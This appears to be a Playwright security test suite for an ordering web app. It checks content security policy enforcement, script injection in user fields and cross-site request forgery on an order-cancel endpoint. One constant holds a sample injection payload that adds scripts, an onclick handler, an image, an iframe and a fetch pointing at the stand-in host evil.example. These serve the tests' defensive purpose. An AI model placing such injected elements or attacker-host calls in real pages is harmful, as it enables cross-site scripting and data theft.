import type { Page } from '@playwright/test';
import { openDashboard, placeOrder, type TestUser } from './accounts.ts';
import { createCaseCounter } from './caseCounter.ts';
import { openHostileSite } from './hostileSite.ts';
import { INJECTION_STRINGS } from './injectionStrings.ts';
import { expect, MAPLESS, REQUEST_FAILED, test, type Visitor } from './journey.ts';
import {
  createOrderScenario,
  createParticipants,
  detailPathsOf,
  type OrderScenario,
  ROLE_PATHS,
  SCENARIO_LOCATION,
  SIGNED_OUT_PATHS,
} from './orderScenario.ts';
import { fillCard, fillOrder } from './screens/orders.ts';

const STRINGS_PER_ORDER = 3;
const MAX_LABEL_LENGTH = 50;
// Name, label, address, instructions, and a review from each side to each other.
const FIELD_COUNT = 8;

const counter = createCaseCounter('foreign-code');
// biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures that are needed from the pattern
test.afterEach(({}, info) => counter.note(info.status === info.expectedStatus));

const DIALOG_COUNT = 2;
const SCREEN_COUNT = SIGNED_OUT_PATHS.length + Object.values(ROLE_PATHS).flat().length + 5;

const REPORT_CSP_VIOLATIONS = `document.addEventListener('securitypolicyviolation', (event) =>
  note(event.effectiveDirective + ': ' + event.blockedURI + ' at ' + location.hash))`;

/** Notes what a page breaks of its content security policy. A dialog that it opens is held against it anyway. */
async function recordCspViolations({ context }: Visitor): Promise<string[]> {
  const reports: string[] = [];
  await context.exposeBinding('note', (_source, report: string) => void reports.push(report));
  await context.addInitScript(REPORT_CSP_VIOLATIONS);
  return reports;
}

async function openScreen(page: Page, path: string): Promise<void> {
  await page.goto(`/#${path}`);
  await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  // What the screen asked for has come, and is drawn.
  await expect(page.getByRole('status', { name: /^Loading/ })).toHaveCount(0);
}

/** From nowhere, so that what is seen is this screen's and nothing of the one before. */
async function openScreenFresh(page: Page, path: string): Promise<void> {
  await page.goto('about:blank');
  await openScreen(page, path);
}

const readInjectedFlag = (page: Page) => page.evaluate<unknown>('window.ran');

test('no screen of anybody breaks the content security policy, and a page that does is reported', async ({
  server: house,
  openVisitor: arrive,
}) => {
  const story = await createOrderScenario(await createParticipants(house, 'Polly'));
  const details = detailPathsOf(story);
  let seen = 0;
  for (const person of [story.bud, story.scrub, story.duber]) {
    // With its maps: they are most of what a policy could be in the way of.
    const visitor = await arrive();
    const reports = await recordCspViolations(visitor);
    await openDashboard(visitor, house, person);
    for (const path of [...ROLE_PATHS[person.role], ...details[person.role]]) {
      await openScreenFresh(visitor.page, path);
      seen += 1;
      counter.ran();
    }
    if (person.role === 'Bud') await openDialogs(visitor.page, story.scrub);
    expect(reports, `of a ${person.role}`).toEqual([]);
    await visitor.context.close();
  }
  const stranger = await arrive();
  // The link that ends mails is a made-up one.
  stranger.allowErrors(404);
  const reports = await recordCspViolations(stranger);
  for (const path of SIGNED_OUT_PATHS) {
    await openScreenFresh(stranger.page, path);
    seen += 1;
    counter.ran();
  }
  expect(reports).toEqual([]);
  expect(seen).toBe(SCREEN_COUNT);
});

/** What stands behind a press: the card network's form in its frame, a map to choose a point on, a form. */
async function openDialogs(page: Page, scrub: TestUser): Promise<void> {
  await openScreenFresh(page, '/bud/place-order');
  await fillOrder(page, { address: 'Default', scrub: scrub.fullname, load: 'Small (1-2 lbs)' });
  await fillCard(page);
  counter.ran();
  await openScreenFresh(page, '/profile');
  await page.getByRole('button', { name: 'Add New Address' }).click();
  await page.getByRole('button', { name: /Select Location/ }).click();
  await expect(page.getByRole('dialog', { name: 'Select Location' })).toBeVisible();
  await expect(page.locator('.maplibregl-canvas')).toBeVisible();
  counter.ran();
}

test('foreign code on a page is kept from running, and reported', async ({ openVisitor: arrive }) => {
  const { page, context, ...visitor } = await arrive(MAPLESS);
  const reports = await recordCspViolations({ page, context, ...visitor });
  await openScreen(page, '/terms');
  visitor.allowErrors(REQUEST_FAILED, 'Content Security Policy');
  await page.evaluate(INJECTED_CODE);
  const kinds = () => reports.map((report) => report.split(':')[0]).toSorted();
  await expect
    .poll(kinds)
    .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await readInjectedFlag(page)).toBeUndefined();
  counter.ran(INJECTED_COUNT);
});

const INJECTED_COUNT = 6;

/** What an injection would do on a page. */
const INJECTED_CODE = `
  const add = (name, attributes, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  add('script', {}, 'window.ran = 1');
  add('script', { src: 'https://evil.example/x.js' });
  add('p', { onclick: 'window.ran = 1' }).click();
  add('img', { src: 'https://evil.example/x.png' });
  add('iframe', { src: 'https://evil.example/' });
  fetch('https://evil.example/').catch(() => undefined);`;

test('what people write is shown as they wrote it, in every field and on every screen, and runs nothing', async ({
  server: house,
  openVisitor: arrive,
}) => {
  const people = await createParticipants(house, 'Inga');
  const visitors = await Promise.all(
    [people.bud, people.scrub, people.duber].map(async (person) => {
      const visitor = await arrive(MAPLESS);
      await openDashboard(visitor, house, person);
      return { person, page: visitor.page, reports: await recordCspViolations(visitor) };
    }),
  );
  let shown = 0;
  for (let from = 0; from < INJECTION_STRINGS.length; from += STRINGS_PER_ORDER) {
    const strings = INJECTION_STRINGS.slice(from, from + STRINGS_PER_ORDER);
    await renameUsers(people, strings);
    const story = await createOrderScenario(people, strings.join(' '));
    const details = detailPathsOf(story);
    // Where lists and figures show them the last round looks: those screens show the same words in the same parts.
    const isLast = from + STRINGS_PER_ORDER >= INJECTION_STRINGS.length;
    for (const { person, page } of visitors) {
      // The page that has all of them comes last.
      for (const path of [...(isLast ? ROLE_PATHS[person.role] : []), ...details[person.role].toReversed()]) {
        await openScreen(page, path);
        expect(await readInjectedFlag(page), path).toBeUndefined();
      }
      for (const text of strings) await expect(page.locator('body'), text).toContainText(text);
      shown += 1;
    }
  }
  expect(shown).toBe(INJECTION_STRINGS.length);
  for (const { reports } of visitors) expect(reports).toEqual([]);
  counter.ran(shown * FIELD_COUNT);
});

/** Gives each of the three another of the strings as name, label and address. */
async function renameUsers(
  people: Pick<OrderScenario, 'bud' | 'scrub' | 'duber'>,
  strings: readonly string[],
): Promise<void> {
  for (const [index, person] of [people.bud, people.scrub, people.duber].entries()) {
    const text = strings[index] ?? '';
    await person.api.updateProfile({ body: { fullname: text } });
    await person.api.updateAddress({
      body: { id: person.addressId, label: text.slice(0, MAX_LABEL_LENGTH), address: text, ...SCENARIO_LOCATION },
    });
  }
}

test('another site’s pages cannot take a step, in any way that a browser has', async ({
  server: house,
  openVisitor: arrive,
}) => {
  const { bud, scrub } = await createParticipants(house, 'Cross');
  const { id } = await placeOrder(bud, scrub);
  const visitor = await arrive(MAPLESS);
  await openDashboard(visitor, house, bud);
  await expect(visitor.page.getByRole('heading', { level: 1 })).toBeVisible();
  const step = `${house.url}/api/scrub-orders/${id}/cancel-order`;
  const evil = await openHostileSite(step, bud.token);
  const before = await bud.api.readOrder({ params: { id } });
  visitor.allowErrors(401, REQUEST_FAILED);
  try {
    const page = await visitor.context.newPage();
    await page.goto(evil.url);
    await expect(page.locator('#done')).toHaveText('all tried', { timeout: 30_000 });
    await page.locator('form button').click();
    await page.waitForURL(`${step}*`);
    await expect(page.locator('body')).toContainText('User not authenticated');
    await page.goto(step);
    await expect(page.locator('body')).toContainText('User not authenticated');
    // What came from there did come: a test without requests would prove nothing.
    expect(await page.evaluate<string>('document.cookie')).toContain('auth-token');
    expect(await bud.api.readOrder({ params: { id } })).toEqual(before);
  } finally {
    await evil.close();
  }
  await bud.api['cancel-order']({ params: { id } });
});

test('what breaks on our side names its request, and what does not says nothing of it', async ({
  server: house,
  openVisitor: arrive,
}) => {
  const { bud, scrub } = await createParticipants(house, 'Rhea');
  const { id } = await placeOrder(bud, scrub);
  const visitor = await arrive(MAPLESS);
  visitor.allowErrors(500, 404);
  await openDashboard(visitor, house, bud);
  const { page } = visitor;
  const requestId = '0192f0c1-7a3b-7c4d-8e5f-0123456789ab';
  const body = JSON.stringify({ statusCode: 500, error: 'Internal Server Error', message: 'Something went wrong' });
  await page.route(`**/api/scrub-orders/${id}`, (route) =>
    route.fulfill({ status: 500, headers: { 'content-type': 'application/json', 'x-request-id': requestId }, body }),
  );
  await page.goto(`/#/bud/orders/${id}`);
  await expect(page.getByRole('heading', { name: 'Unable To Get Order Details' })).toBeVisible();
  await expect(page.getByText(requestId)).toBeVisible();
  await page.unroute(`**/api/scrub-orders/${id}`);
  await page.getByRole('button', { name: 'Try Again' }).click();
  await expect(page.getByRole('heading', { name: 'Order Details' })).toBeVisible();
  await expect(page.getByText('name request')).toHaveCount(0);
  await page.goto(`/#/bud/orders/${scrub.id}`);
  await expect(page.getByRole('heading', { name: 'Order Not Found' })).toBeVisible();
  await expect(page.getByText('name request')).toHaveCount(0);
});

test('as many cases were tried as there are', () => {
  const { ran, stated } = counter.writeFigures(
    SCREEN_COUNT + DIALOG_COUNT + INJECTED_COUNT + INJECTION_STRINGS.length * FIELD_COUNT,
  );
  expect(ran).toBe(stated);
});
